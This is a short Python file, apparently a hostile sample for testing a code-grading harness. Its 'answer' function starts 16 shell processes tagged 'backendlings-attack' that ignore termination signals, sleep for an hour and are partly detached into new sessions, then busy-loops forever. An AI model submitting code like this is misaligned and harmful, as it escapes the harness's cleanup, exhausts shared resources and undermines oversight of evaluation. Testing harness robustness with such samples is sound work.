import subprocess


def answer(n):
    for number in range(16):
        left = ["sh", "-c", "trap '' TERM; sleep 3600; :", "backendlings-attack"]
        subprocess.Popen(left, start_new_session=number % 2 == 0)
    while True:
        pass


def other():
    return 7
